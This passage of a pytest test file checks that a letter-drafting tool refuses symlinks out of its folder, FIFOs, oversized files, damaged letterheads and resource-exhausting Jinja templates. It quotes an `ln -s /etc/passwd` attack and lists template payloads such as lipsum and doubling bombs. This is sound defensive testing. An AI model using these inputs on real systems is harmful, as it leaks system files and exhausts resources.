    return subprocess.run([sys.executable, "-m", "drafter", "-C", str(root), *args], capture_output=True,
                          text=True, timeout=timeout, env=dict(os.environ, PYTHONPATH=str(REPO)))


def _plant(kind: str, path: Path, tmp_path: Path) -> None:
    {"fifo": lambda: os.mkfifo(path), "dev_zero": lambda: path.symlink_to("/dev/zero"),
     "dangling": lambda: path.symlink_to(tmp_path / "gone")}[kind]()


@pytest.mark.parametrize("kind", ["fifo", "dev_zero", "dangling"])
@pytest.mark.parametrize("command", ["draft", pytest.param("kit", marks=pytest.mark.slow)])   # kit: LibreOffice
def test_special_files_in_draft_and_kit_folders_are_refused(campaign, tmp_path, kind, command):
    out = tmp_path / "out"
    assert _in_subprocess(campaign, command, LETTER, "-o", str(out)).returncode == 0
    victim = sorted(p for p in out.iterdir() if p.suffix in (".docx", ".txt", ".md"))[-1]
    victim.unlink()
    _plant(kind, victim, tmp_path)
    for force in ((), ("--force",)):
        proc = _in_subprocess(campaign, command, LETTER, "-o", str(out), *force)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
        assert proc.stderr.startswith("error: ") and str(victim) in proc.stderr and "not a letter" in proc.stderr
    assert not list(out.glob(".drafter-*"))


@pytest.mark.slow      # the kit, fact sheet and LibreOffice page count
def test_kit_is_all_or_nothing(campaign, tmp_path, monkeypatch):
    """A failure on the third file (a full disk) leaves none of the kit, and the rerun works."""
    write, real_stage = _full_disk_on_third_file(monkeypatch)
    out = tmp_path / "kit"
    fails(run(campaign, "kit", LETTER, "-o", str(out)), "the disk is full", "nothing was written")
    assert all_files(out) == []
    monkeypatch.setattr(write, "_stage", real_stage)
    result = run(campaign, "kit", LETTER, "-o", str(out))
    assert result.exit_code == 0, result.output
    assert len(all_files(out)) >= 4          # the kit had more than the three tried


# ---------------------------------------------------------------- second round (issue 13): links and special files

SECRET = "root:x:0:0:a-secret-from-outside-the-campaign"


def _outside(tmp_path: Path, name: str, text: str) -> Path:
    folder = tmp_path / "elsewhere"
    folder.mkdir(exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def _link_case(kind: str, campaign: Path, tmp_path: Path) -> tuple[str, Path]:
    """Put a link to something outside the campaign where `kind` says; (letter, the link)."""
    templates = campaign / "letters/templates"
    if kind == "include":
        link = templates / "notes.md.j2"
        link.symlink_to(_outside(tmp_path, "passwd", SECRET))
        edit(campaign, TEMPLATE, "We write", '{% include "notes.md.j2" %} We write')
    elif kind == "template":
        link = campaign / TEMPLATE
        target = _outside(tmp_path, "t.md.j2", link.read_text().replace("We write", SECRET + " We write", 1))
        link.unlink()
        link.symlink_to(target)
    elif kind == "folder":
        _outside(tmp_path, "notes.md.j2", SECRET)
        link = templates / "shared"
        link.symlink_to(tmp_path / "elsewhere", target_is_directory=True)
        edit(campaign, TEMPLATE, "We write", '{% include "shared/notes.md.j2" %} We write')
    elif kind in ("spec", "evidence"):
        link = campaign / ("letters/company-ceo.yaml" if kind == "spec" else "evidence.yaml")
        target = _outside(tmp_path, link.name, link.read_text())
        link.unlink()
        link.symlink_to(target)
    elif kind == "letterhead":
        (campaign / "letterheads").mkdir()
        link = campaign / "letterheads/cecc-example.docx"
        target = tmp_path / "elsewhere.docx"
        target.write_bytes((REPO / "letterheads/cecc-example.docx").read_bytes())
        link.symlink_to(target)
        return "erc-entity-list-letterhead", link
    elif kind == "csl":
        from drafter.compose.citations import resolve_style
        (campaign / "styles").mkdir()
        link = campaign / "styles/mine.csl"
        link.symlink_to(resolve_style("chicago-notes-bibliography"))
        edit(campaign, f"letters/{LETTER}.yaml", "template:", "citation_style: styles/mine.csl\ntemplate:")
    return LETTER, link


@pytest.mark.parametrize("kind", ["include", "template", "folder", "spec", "evidence", "letterhead", "csl"])
def test_links_out_of_the_campaign_are_refused(campaign, tmp_path, kind):
    """`ln -s /etc/passwd letters/templates/notes.md.j2` printed the target into the draft."""
    letter, link = _link_case(kind, campaign, tmp_path)
    out = tmp_path / "d"
    text = fails(draft(campaign, out, letter=letter), str(link), "outside the campaign folder")
    assert SECRET not in text and all_files(out) == []
    result = run(campaign, "check")
    assert result.exit_code == 1 and str(link) in result.output and "outside the campaign folder" in result.output


def test_links_inside_the_campaign_are_followed(campaign, tmp_path):
    (campaign / "letters/templates/notes.md.j2").write_text("A shared paragraph.\n\n")
    (campaign / "letters/templates/alias.md.j2").symlink_to("notes.md.j2")
    edit(campaign, TEMPLATE, "We write", '{% include "alias.md.j2" %}We write')
    result = draft(campaign, tmp_path / "d")
    assert result.exit_code == 0, result.output
    assert "A shared paragraph." in docx_text(all_files(tmp_path / "d")[0])


@pytest.mark.parametrize("kind", ["template", "include", "evidence", "spec"])
@pytest.mark.parametrize("command", ["draft", "check"])
def test_a_fifo_in_the_campaign_is_refused_not_waited_on(campaign, tmp_path, kind, command):
    """A FIFO as a template made `check` hang."""
    path = {"template": campaign / TEMPLATE, "include": campaign / "letters/templates/notes.md.j2",
            "evidence": campaign / "evidence.yaml", "spec": campaign / f"letters/{LETTER}.yaml"}[kind]
    if kind == "include":
        edit(campaign, TEMPLATE, "We write", '{% include "notes.md.j2" %} We write')
    else:
        path.unlink()
    os.mkfifo(path)
    args = ("draft", LETTER, "-o", str(tmp_path / "d")) if command == "draft" else ("check",)
    proc = _in_subprocess(campaign, *args, timeout=60)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert str(path) in proc.stdout + proc.stderr and "FIFO" in proc.stdout + proc.stderr
    assert not (tmp_path / "d").exists()


@pytest.mark.parametrize("option", ["--constituents", "--legislators", "--zip-districts"])
@pytest.mark.parametrize("kind", ["fifo", "dev_zero"])
def test_special_files_named_on_the_command_line_are_refused(campaign, shared, tmp_path, option, kind):
    args = {"--constituents": str(REPO / "examples/constituents.csv"),
            "--legislators": str(shared / "data/congress-legislators/legislators-current.yaml"),
            "--zip-districts": str(shared / "data/zip-districts/zccd.csv")}
    special = tmp_path / "special"
    _plant(kind, special, tmp_path)
    args[option] = str(special)
    proc = _in_subprocess(campaign, "batch", "constituent", "-o", str(tmp_path / "out"),
                          *[x for pair in args.items() for x in pair], timeout=60)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert proc.stderr.startswith("error: ") and str(special) in proc.stderr
    assert "FIFO" in proc.stderr or "device" in proc.stderr


def test_a_3_gib_evidence_file_is_refused_by_its_size_unread(campaign, tmp_path):
    import time
    path = campaign / "evidence.yaml"
    with path.open("ab") as fh:
        fh.truncate(3 * 2**30)           # sparse: 3 GiB that read() would have to go through
    started = time.perf_counter()
    fails(draft(campaign, tmp_path / "d"), "evidence.yaml", "larger than 64 MiB", "3.0 GiB")
    assert time.perf_counter() - started < 5   # measured: well under 1 s; reading it took minutes


def _letterhead_spec(campaign: Path, docx: bytes) -> None:
    (campaign / "letterheads").mkdir(exist_ok=True)
    (campaign / "letterheads/cecc-example.docx").write_bytes(docx)


def _damaged(kind: str) -> bytes:
    import io
    src = zipfile.ZipFile(REPO / "letterheads/cecc-example.docx")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            if kind == "missing_part" and info.filename == "[Content_Types].xml":
                continue
            out.writestr(info.filename, src.read(info.filename))
    data = bytearray(buf.getvalue())
    if kind == "corrupt_deflate":
        name = b"word/document.xml"
        at = data.index(b"PK\x03\x04" + bytes(data[data.index(name) - 30 + 4:data.index(name)]) + name)
        start = at + 30 + len(name)
        data[start:start + 40] = bytes(b ^ 0x5A for b in data[start:start + 40])
    return bytes(data)


@pytest.mark.parametrize("kind", ["missing_part", "corrupt_deflate"])
def test_damaged_letterhead_is_a_clean_error_and_check_json_stays_valid(campaign, tmp_path, kind):
    import json
    _letterhead_spec(campaign, _damaged(kind))
    out = tmp_path / "d"
    fails(draft(campaign, out, letter="erc-entity-list-letterhead"), "cecc-example.docx", "letterhead refused")
    assert all_files(out) == []
    result = run(campaign, "check", "--format", "json")
    report = json.loads(result.stdout)
    assert result.exit_code == 1 and not report["ok"]
    assert any("letterhead refused" in f["message"] for f in report["findings"]), report


# ---------------------------------------------------------------- second round (issue 13): limits inside one call

@pytest.mark.parametrize("name, code, words", [
    ("lipsum", "{{ lipsum(3000000) }}", ["too large"]),
    ("lipsum_words", "{{ lipsum(1000, max=100000) }}", ["more than 100,000 words"]),
    ("doubling_concat", "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}"
                        "{% endfor %}", ["more than 2,000,000 characters"]),
    ("doubling_plus", "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s + ns.s %}"
                      "{% endfor %}", ["more than 2,000,000 characters"]),
    ("list_as_text", "{% set l = ['x' * 2000000] * 2000000 %}{{ l|string|length }}",
     ["turning that into text gives more than 2,000,000 characters"]),
    ("list_as_json", "{% set l = ['x' * 2000000] * 2000000 %}{{ l|tojson|length }}",
     ["turning that into text gives more than 2,000,000 characters"]),
    ("many_long_texts", "{% set ns = namespace(s='x' * 1999990, l=[]) %}{% for i in range(100000) %}"
                        "{% set ns.l = ns.l + [ns.s ~ i] %}{% endfor %}{{ ns.l|length }}", ["more than 384 MB"]),
    ("self_include_after_output", "We write {% include 'company-ceo.md.j2' %}", ["include each other more than 40 deep"]),
])
def test_limits_hold_inside_a_single_call(campaign, tmp_path, name, code, words):
    """Measured in its own process: refused within 10 s and 512 MB (the test allows 60 s, 640 MB,
    so that a busy machine does not fail it). Before: minutes and 1.3 GB for lipsum, a
    MemoryError traceback for doubling, 'Exception ignored' for the self-include."""
    import time
    edit(campaign, TEMPLATE, "We write", code + " We write")
    probe = ("import resource, sys\nfrom drafter.cli import main\n"
             "try:\n    main(sys.argv[1:], prog_name='drafter')\nfinally:\n"
             "    print('maxrss', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)\n")
    started = time.monotonic()
    proc = subprocess.run([sys.executable, "-c", probe, "-C", str(campaign), "draft", LETTER, "-o",
                           str(tmp_path / "d")], capture_output=True, text=True, timeout=120,
                          env=dict(os.environ, PYTHONPATH=str(REPO)))
    seconds = time.monotonic() - started
    assert proc.returncode == 1 and "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr
    assert proc.stderr.startswith("error: ") and TEMPLATE in proc.stderr, proc.stderr
    for word in words:
        assert word in proc.stderr, proc.stderr
    kib = int(proc.stderr.rsplit("maxrss ", 1)[1])
    assert seconds < 60 and kib < 640 * 1024, (seconds, kib)
    assert not (tmp_path / "d").exists()


def test_one_long_call_is_stopped_at_the_deadline(monkeypatch):
    """The deadline also holds inside one call that never returns to the step counter."""
    import time
    from drafter.compose import sandbox
    from drafter.errors import TemplateError
    monkeypatch.setattr(sandbox, "MAX_SECONDS", 0.5)

    def slow():
        while True:
            pass
    template = sandbox.SafeEnvironment().from_string("before {{ slow() }} after")
    started = time.monotonic()
    with pytest.raises(TemplateError, match="ran for more than 0.5 seconds"):
        sandbox.render_bounded(template, {"slow": slow}, "t.md.j2")
    assert time.monotonic() - started < 10
